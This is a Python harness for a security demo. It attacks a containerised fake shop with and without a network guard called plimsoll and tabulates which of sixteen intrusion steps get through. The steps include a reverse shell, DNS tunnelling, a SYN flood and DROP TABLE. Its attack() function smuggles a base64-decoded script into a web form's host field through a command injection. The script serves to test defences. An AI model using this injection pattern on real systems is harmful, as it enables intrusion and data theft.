"""Both runs and the table. Started by demo/intruder in a network namespace with a dockerd of its own."""
import base64, json, os, pathlib, re, subprocess, sys, textwrap, time, urllib.error, urllib.parse, urllib.request

PLIMSOLL, DEMO, FOLDER = sys.argv[1], pathlib.Path(sys.argv[2]), pathlib.Path(sys.argv[3])
INTERNET, RESOLVER, SHOP = "203.0.113.9", "198.51.100.53", "198.51.100.10"
IMAGE = "plimsoll.demo/shop:1"
DOCKER = ["docker", "--host", f"unix://{FOLDER}/socket"]
PATIENCE = 120  # Seconds for what takes two on a machine that has nothing else to do.
SETTINGS = {"PGHOST": "db.shop.test", "PGUSER": "web", "PGPASSWORD": "only the shop knows", "PGDATABASE": "shop", "PGAPPNAME": "shop"}

# What the intruder does, as the table calls it. The last one uses up what the shop itself may ask in a minute.
STEPS = {
    "scan": "scan ports", "password": "stolen password", "users": "SELECT * FROM users", "drop": "DROP TABLE", "program": "COPY … PROGRAM",
    "sleep": "pg_sleep storm", "database": "another database", "host": "another host", "fetch": "fetch a tool", "shell": "reverse shell",
    "tunnel": "DNS tunnel", "syn": "SYN flood", "flood": "connection flood", "stop": "stop the guard", "rules": "change its rules",
    "dump": "dump in a loop",
}


def give_up(sentence):
    print(f"intruder: {sentence}", file=sys.stderr)
    sys.exit(2)


def run(*words, **more):
    done = subprocess.run([str(word) for word in words], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, **more)
    if done.returncode: give_up(f"{' '.join(map(str, words))}: {done.stdout.strip()}")
    return done.stdout.strip()


def docker(*words): return run(*DOCKER, *words)


def eventually(happens, what):
    end = time.monotonic() + PATIENCE
    while not (result := happens()):
        if time.monotonic() > end: give_up(f"{what} did not happen within {PATIENCE} s")
        time.sleep(0.1)
    return result


def make_image():
    """Nothing but a shell: the containers have the machine's own programs, read-only."""
    root = FOLDER / "root"
    for name in ("bin", "etc", "tmp", "usr", "lib", "lib64", "shop", "proc", "sys", "dev", "var/lib/nginx", "var/log/nginx"): (root / name).mkdir(parents=True)
    os.chmod(root / "tmp", 0o1777)
    run("cp", run("sh", "-c", "command -v busybox"), root / "bin/busybox")
    os.symlink("busybox", root / "bin/sh")
    (root / "etc/passwd").write_text("root:x:0:0::/:/bin/sh\nnobody:x:65534:65534::/:/bin/sh\npostgres:x:70:70::/:/bin/sh\n")
    (root / "etc/group").write_text("root:x:0:\nnogroup:x:65534:\npostgres:x:70:\n")
    run("tar", "-C", root, "-cf", FOLDER / "image.tar", ".")
    docker("import", FOLDER / "image.tar", IMAGE)


def options(name, **settings):
    mounted = [word for path in ("/usr", "/lib", "/lib64") for word in ("--volume", f"{path}:{path}:ro")]
    return ["--rm", "--name", name, *mounted, "--volume", f"{DEMO}/shop:/shop:ro", "--volume", f"{DEMO}/stage:/stage:ro",
            *(word for key, value in settings.items() for word in ("--env", f"{key}={value}"))]


def container(name, *command, **settings):
    docker("run", "--detach", *options(name, **settings), IMAGE, *command)
    return docker("inspect", "--format", "{{.NetworkSettings.IPAddress}}", name)


def query(statement):
    done = subprocess.run([*DOCKER, "exec", "--env", f"PGPASSWORD={SETTINGS['PGPASSWORD']}", "db", "/usr/lib/postgresql/15/bin/psql", "-h", "127.0.0.1", "-U", "web", "-d", "shop", "-AtXc", statement], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    return done.stdout.strip() if done.returncode == 0 else None


class Neighbourhood:
    """A new database, the stock, and the world outside."""

    def __enter__(self):
        for name in ("tunnel", "shell"): (FOLDER / name).write_text("")
        database = container("db", "/shop/database", PGPASSWORD=SETTINGS["PGPASSWORD"])
        self.stock = container("stock", "/usr/bin/python3", "/stage/neighbours.py", "stock")
        (FOLDER / "records").write_text(json.dumps({"db.shop.test": database}))
        self.outside = subprocess.Popen(["/usr/bin/python3", DEMO / "stage/neighbours.py", "outside", INTERNET, RESOLVER, FOLDER])
        eventually(lambda: query("SELECT count(*) FROM users") == "2000", "the start of the database")
        return self

    def __exit__(self, *_):
        self.outside.kill()
        self.outside.wait()
        docker("rm", "--force", "db", "stock")

    def segments(self):
        """TCP segments that the stock's kernel has received."""
        process = docker("inspect", "--format", "{{.State.Pid}}", "stock")
        names, values = [line.split() for line in open(f"/proc/{process}/net/snmp") if line.startswith("Tcp:")]
        return int(values[names.index("InSegs")])


class Shop:
    """The shop's own container, with a guard or without."""

    def __init__(self, mode=None):
        self.mode, self.log = mode, FOLDER / f"{mode or 'plain'}.log"

    def __enter__(self):
        words = ["run", *options("web", **SETTINGS), "--publish", f"{SHOP}:80:80", "--dns", RESOLVER, IMAGE, "/shop/web"]
        guard = [PLIMSOLL, "guard", "run", "--profile", FOLDER / "shop.yaml", "--events", FOLDER / f"{self.mode}.jsonl", "--state", FOLDER / "state", "--mode", self.mode, "--"] if self.mode else []
        self.process = subprocess.Popen([*guard, *DOCKER, *words], stdout=subprocess.DEVNULL, stderr=open(self.log, "w"))
        eventually(lambda: self.process.poll() is not None or not visit(["/"]), "the start of the shop")
        if self.process.poll() is not None: give_up(f"the shop did not start: {self.log.read_text().strip()}")
        return self

    def __exit__(self, *_):
        subprocess.run([*DOCKER, "rm", "--force", "web"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.process.wait(PATIENCE)


def post(path, seconds=PATIENCE, **form):
    return urllib.request.urlopen(f"http://{SHOP}{path}", urllib.parse.urlencode(form).encode(), seconds).read().decode()


PAGES = ["/", "/product/1", "/product/77", "/search?q=product+1", "/account/3", "/order"]


def visit(pages=PAGES):
    """What an ordinary visitor does; the pages that were not as they should be."""
    wanted = {"/": "product 20", "/product/1": "1.00", "/product/77": "77.00", "/search?q=product+1": "product 120", "/account/3": "user3@example.com", "/order": "Ordered"}
    wrong = []
    for page in pages:
        try: text = post(page, product=7, buyer=3) if page == "/order" else urllib.request.urlopen(f"http://{SHOP}{page}", timeout=PATIENCE).read().decode()
        except OSError as error: text = str(error)
        if wanted[page] not in text: wrong.append(page)
    return wrong


class Events:
    """What the guard has told since it was last asked."""

    def __init__(self, file):
        self.file, self.known, self.keys = file, 0, set()

    def refused(self):
        """Kinds that are new; what repeats is told again with its count."""
        lines = self.file.read_text().splitlines() if self.file.exists() else []
        lines, self.known = lines[self.known:], len(lines)
        new = []
        for event in map(json.loads, lines):
            key = tuple(event.get(part) for part in ("reason", "protocol", "name", "address", "port", "shape", "database"))
            if event["decision"] != "forwarded" and key not in self.keys:
                self.keys.add(key)
                new.append(event)
        return new


    def until_quiet(self):
        """All that comes of what was done: at least one, and then what follows it."""
        told, end = [], time.monotonic() + 30
        while True:
            time.sleep(1)
            new = self.refused()
            told += new
            if (told and not new) or time.monotonic() > end: return told


def cut(text, width): return text if len(text) <= width else text[:width - 1] + "…"


def told(event):
    """An event in a few words."""
    what = event.get("statement") or (f"database {event['database']}" if event.get("database") else None) or event.get("name") or f"{event.get('address')}:{event.get('port', event['protocol'])}"
    return f"{event['reason']}: {what}"


def attack(step, around):
    """One step over the hole: whether it came to something, as far as can be seen from the other side, and what it says."""
    before = around.segments() if step == "syn" else 0
    script = base64.b64encode((DEMO / "stage/intruder.py").read_bytes()).decode()
    said = post("/admin/reach", host=f"them; echo {script} | /usr/bin/base64 -d > /tmp/i.py; /usr/bin/python3 /tmp/i.py {step} {around.stock} {INTERNET}")
    came, what = re.findall(r"^(yes|no): (.*)$", said, re.MULTILINE)[-1]
    came = came == "yes"
    if step == "drop": came = query("SELECT to_regclass('invoices') IS NULL") == "t"
    elif step == "shell": came = "from the shell" in (FOLDER / "shell").read_text()
    elif step == "tunnel":
        pieces = sorted((int(number), piece) for number, piece in (line.split(".")[0].split("-") for line in set((FOLDER / "tunnel").read_text().split())))
        text = "".join(piece for _, piece in pieces).upper()
        came, what = bool(text) and b"key of payments" in base64.b32decode(text + "=" * (-len(text) % 8)), f"{len(text)} characters came out"
    elif step == "syn":
        segments = around.segments() - before
        came, what = segments >= 5_000, f"{segments:,} segments at stock"
    return came, what


def act(title, mode=None):
    """All steps in one shop: for each whether it came to something, what it says, and the guard's evidence."""
    print(f"\n{title}", flush=True)
    results, false, visits = {}, [], 0
    with Neighbourhood() as around, Shop(mode):
        events = Events(FOLDER / f"{mode}.jsonl")
        pages = PAGES
        for step, name in [(None, None), *STEPS.items()]:
            if step:
                came, what = attack(step, around)
                evidence = events.until_quiet() if mode else []
                results[step] = came, what, evidence
                print(f"  {name:<20} {'yes' if came else 'no':<4} {cut(what, 52)}", flush=True)
                if step == "dump": pages = [page for page in PAGES if "account" not in page]
            visits += len(pages)
            false += [f"{page} after {name or 'the start'}" for page in visit(pages)]
            if mode: false += [told(event) for event in events.refused()]
    return results, false, visits


def main():
    make_image()
    plain, _, _ = act("Without the guard, the intruder came to:")
    print("\nWith the guard: learning from a visitor …", flush=True)
    with Neighbourhood(), Shop("learn"):
        wrong = [page for _ in range(3) for page in visit()]
    if wrong: give_up(f"while the guard learns the shop does not work: {', '.join(wrong)}")
    print(textwrap.indent(run(PLIMSOLL, "guard", "profile", "show", FOLDER / "shop.yaml"), "  "))
    guarded, false, visits = act("With the guard, the intruder came to:", "enforce")

    print(f"\n{'step':<19} {'without the guard':<26} with the guard")
    is_right = True
    for step, name in STEPS.items():
        (before, got, _), (after, kept, evidence) = plain[step], guarded[step]
        right = before and not after and evidence
        is_right &= bool(right)
        refusal = told(evidence[0]) if evidence else "nothing was told"
        print(f"{name:<19} {cut(got if before else f'FAILED: {got}', 26):<26} {cut(f'CAME THROUGH: {kept}' if after else refusal, 33)}")
    print(f"\nThe shop's own traffic with the guard: {visits} pages, {len(false)} false alarms.")
    for one in false: print(f"  {one}")
    ok = is_right and not false
    print("Every step succeeds without the guard and is refused with it." if ok else "Not as it should be.")
    return 0 if ok else 1


sys.exit(main())
